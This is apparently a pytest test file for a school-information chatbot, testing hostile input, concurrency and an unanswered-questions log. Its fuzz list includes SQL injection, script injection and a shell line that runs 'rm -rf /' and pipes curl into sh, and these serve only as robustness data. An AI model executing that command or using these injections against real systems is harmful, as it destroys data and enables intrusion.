"""Hostile input, broken files, many threads and processes, and a log that loses nothing."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
from concurrent.futures import ThreadPoolExecutor

import pytest
from conftest import SAMPLE
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from prompt_toolkit.input import create_pipe_input
from prompt_toolkit.output import DummyOutput

from chatbot import Conversation, KnowledgeError, answer, load_knowledge
from chatbot.chat import run_terminal
from chatbot.log import UnansweredLog, group_questions, read_log
from chatbot.match import MAX_QUESTION_CHARS

HOSTILE = [
    "", " ", "\t\n\r", "?!?!", "...", "\x00", "\x00" * 100, "\x01\x02\x1b[31mred\x1b[0m", "\x7f\x08\x0c",
    "\U0001f393\U0001f4b0\U0001f914", "\u0645\u0627 \u0647\u0648 \u0627\u0644\u0631\u0627\u062a\u0628\u061f",
    "\u202eyralas eht si tahw", "salary \u7d66\u6599 \u0437\u0430\u0440\u043f\u043b\u0430\u0442\u0430",
    "'; DROP TABLE schools; --", "$(rm -rf /) `reboot` && curl x | sh", "<script>alert(1)</script>",
    "%s%s%s%n", "{0} {question} {{}}", "\ud800 lone surrogate", "a" * 1_000_000, "tuition at wgu " * 50_000,
    "salary\x00tuition", "SALARY!!!!!!!!", "1" * 500, "-" * 10_000, "\u00b2", "\u0661\u0662", "\u2460",
]


@pytest.mark.parametrize("question", HOSTILE, ids=range(len(HOSTILE)))
def test_any_question_gets_a_reply(question, guide_kb):
    conversation = Conversation(guide_kb)
    conversation.ask("asdfghjkl")  # numbered suggestions are on offer: "²" must not be taken for one
    assert conversation.ask(question).text
    reply = answer(question, guide_kb)
    assert isinstance(reply.text, str) and reply.text
    assert 0.0 <= reply.confidence <= 1.0
    if len(question) > MAX_QUESTION_CHARS:
        assert f"cut to its first {MAX_QUESTION_CHARS} characters" in reply.text


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.text(alphabet=st.characters(), max_size=3000))
def test_any_unicode_never_raises(sample_kb, text):
    conversation = Conversation(sample_kb)
    for reply in (answer(text, sample_kb), conversation.ask(text), conversation.ask(text[::-1])):
        assert reply.text and 0.0 <= reply.confidence <= 1.0


@pytest.mark.parametrize("value", [None, 42, b"salary", ["salary"], {"q": "salary"}])
def test_non_strings_are_type_errors(value, seed_kb):
    with pytest.raises(TypeError, match="question must be a str"):
        answer(value, seed_kb)
    with pytest.raises(TypeError, match="question must be a str"):
        Conversation(seed_kb).ask(value)


def test_separate_conversations_never_share_context(guide_kb):
    a, b = [k.record for k in guide_kb.record_keys_ if k.record.place][:2]
    first, second = Conversation(guide_kb), Conversation(guide_kb)
    first.ask(f"How much is tuition at {a.name}?")
    second.ask(f"What's the graduation rate at {a.name}?")
    assert first.ask(f"What about {b.name}?").short == b.get("In-State Tuition").value.raw   # its own context
    assert second.ask(f"What about {b.name}?").short == b.get("Graduation Rate").value.raw   # and its own


def test_conversations_in_threads_keep_their_own_context(guide_kb):
    schools = [k.record.name for k in guide_kb.record_keys_ if k.record.place]
    labels = [f.label for f in guide_kb.record_keys_[1].record.fields]

    def talk(n: int) -> tuple[str | None, str | None]:
        conversation = Conversation(guide_kb)
        school, other = schools[n % len(schools)], schools[(n + 1) % len(schools)]
        label = labels[n % len(labels)]
        conversation.ask(f"{label} at {school}")
        return conversation.ask(f"what about {other}?").short, other

    with ThreadPoolExecutor(16) as pool:
        results = list(pool.map(talk, range(64)))
    for n, (short, other) in enumerate(results):
        rec = next(k.record for k in guide_kb.record_keys_ if k.record.name == other)
        assert short == rec.get(labels[n % len(labels)]).value.raw


def test_duplicate_questions_name_both_lines(tmp_path):
    """A question given twice with different answers loads (as exports repeat threads), warning of both lines."""
    path = tmp_path / "pairs.csv"
    path.write_text("question,answer\nWhen is it open?,At 9.\nWho runs it?,Us.\nwhen is it  OPEN?,At 10.\n")
    (warning,) = load_knowledge(path).document.warnings
    assert warning.line == 4 and "also on line 2 with a different answer" in warning.message


def test_too_large_a_document_is_refused_clearly(tmp_path):
    path = tmp_path / "huge.txt"
    with path.open("wb") as f:
        f.truncate(50 * 1024 * 1024)  # 50 MB
    with pytest.raises(KnowledgeError, match="the limit for this kind of file is"):
        load_knowledge(path)
    out = subprocess.run([sys.executable, "-m", "chatbot", "ask", "salary", "--knowledge", str(path)],
                         capture_output=True, text=True, cwd=tmp_path, timeout=120)
    assert out.returncode == 2 and out.stderr.count("\n") == 1 and "huge.txt" in out.stderr


# ---------------------------------------------------------------- the unanswered-questions log

def test_log_keeps_declines_and_low_confidence_only(tmp_path, guide_kb):
    path = tmp_path / "log" / "unanswered.jsonl"
    log = UnansweredLog(path)
    for question in ("tuition at harvard", "salary", "hello", "asdfghjkl"):
        answer(question, guide_kb, log_unanswered=log)
    records = read_log(path)
    assert [r["question"] for r in records] == ["tuition at harvard", "asdfghjkl"]
    assert set(records[0]) == {"time", "question", "confidence", "answered", "suggestions"}
    assert len(records[0]["suggestions"]) >= 2


def test_unwritable_log_is_one_warning(tmp_path, seed_kb):
    blocked = tmp_path / "a-file"
    blocked.write_text("x")
    warnings: list[str] = []
    log = UnansweredLog(blocked / "log.jsonl", warn=warnings.append)
    for _ in range(3):
        assert not answer("tuition at harvard", seed_kb, log_unanswered=log).answered
    assert len(warnings) == 1 and warnings[0].startswith("chatbot: warning: unanswered questions not logged")


WRITER = textwrap.dedent("""
    import sys
    from chatbot import answer, load_knowledge
    from chatbot.log import UnansweredLog
    kb = load_knowledge()
    log = UnansweredLog(sys.argv[1])
    for i in range(int(sys.argv[2])):
        answer(f"what is the tuition at harvard number {sys.argv[3]}-{i} " + "x" * 900, kb, log_unanswered=log)
        print(i, flush=True)
""")


def test_eight_processes_interleave_no_lines(tmp_path):
    path = tmp_path / "shared.jsonl"
    script = tmp_path / "writer.py"
    script.write_text(WRITER)
    procs = [subprocess.Popen([sys.executable, str(script), str(path), "40", str(p)], stdout=subprocess.DEVNULL,
                              cwd=tmp_path) for p in range(8)]
    assert all(p.wait(timeout=300) == 0 for p in procs)
    lines = path.read_text(encoding="utf-8").splitlines()
    assert len(lines) == 8 * 40
    records = [json.loads(line) for line in lines]  # every line is one whole record
    assert len({r["question"] for r in records}) == 8 * 40


def test_a_killed_process_loses_nothing_it_reported(tmp_path):
    path = tmp_path / "killed.jsonl"
    script = tmp_path / "writer.py"
    script.write_text(WRITER)
    proc = subprocess.Popen([sys.executable, str(script), str(path), "100000", "k"], stdout=subprocess.PIPE,
                            text=True, cwd=tmp_path)
    reported = 0
    deadline = time.monotonic() + 120
    while reported < 60 and time.monotonic() < deadline:
        if proc.stdout.readline():
            reported += 1
    os.kill(proc.pid, signal.SIGKILL)
    proc.wait(timeout=30)
    lines = path.read_bytes().decode("utf-8").splitlines()
    assert reported == 60
    assert len(lines) >= reported
    assert all(json.loads(line)["question"].startswith("what is the tuition") for line in lines)


def test_review_groups_the_same_question(tmp_path):
    groups = group_questions(["tuition at harvard", "Harvard tuition?", "what is the tuition at harvard university",
                              "how do I become a nurse", "capital of france", "How do I become a nurse?"])
    assert [g.count for g in groups] == [3, 2, 1]


def test_review_command(tmp_path):
    path = tmp_path / "log.jsonl"
    path.write_text("\n".join(json.dumps({"question": q}) for q in ["harvard tuition", "tuition at harvard",
                                                                     "capital of france"]) + "\n")
    out = subprocess.run([sys.executable, "-m", "chatbot", "review", str(path)], capture_output=True, text=True,
                         cwd=tmp_path, timeout=120)
    assert out.returncode == 0
    assert "3 unanswered questions in 2 groups" in out.stdout
    assert out.stdout.splitlines()[2].split()[0] == "2"
    path.write_text('{"question": "ok"}\n{broken\n')
    bad = subprocess.run([sys.executable, "-m", "chatbot", "review", str(path)], capture_output=True, text=True,
                         cwd=tmp_path, timeout=120)
    assert bad.returncode == 2 and "log.jsonl:2:" in bad.stderr


def test_chat_logs_from_the_command_line(tmp_path):
    path = tmp_path / "chat.jsonl"
    out = subprocess.run([sys.executable, "-m", "chatbot", "--log-unanswered", str(path), "--knowledge", str(SAMPLE)],
                         input="tuition at harvard\nsalary\n", capture_output=True, text=True, cwd=tmp_path,
                         timeout=120)
    assert out.returncode == 0
    assert [r["question"] for r in read_log(path)] == ["tuition at harvard"]


# ---------------------------------------------------------------- chat robustness

def test_ctrl_c_during_a_reply_returns_to_the_prompt(guide_kb, monkeypatch):
    salary = next(k.record for k in guide_kb.record_keys_ if k.record.own_section)
    conversation = Conversation(guide_kb)
    real = conversation.ask
    calls = {"n": 0}

    def slow_then_interrupted(question):
        calls["n"] += 1
        if calls["n"] == 1:
            raise KeyboardInterrupt
        return real(question)

    monkeypatch.setattr(conversation, "ask", slow_then_interrupted)
    printed: list[str] = []
    with create_pipe_input() as pipe:
        pipe.send_text("salary\nsalary\n\x04")
        assert run_terminal(conversation, input=pipe, output=DummyOutput(), width=80, write=printed.append) == 0
    assert printed[1] == "(interrupted)" and salary.fields[0].value.raw in printed[2]


@pytest.mark.parametrize("width", [1, 5, 20])
def test_very_narrow_terminal(guide_kb, width):
    printed: list[str] = []
    with create_pipe_input() as pipe:
        pipe.send_text("what skills do I need\n\x04")
        run_terminal(Conversation(guide_kb), input=pipe, output=DummyOutput(), width=width, write=printed.append)
    assert "Attention" in printed[1]
    assert max(len(line) for line in printed[1].splitlines()) <= 20
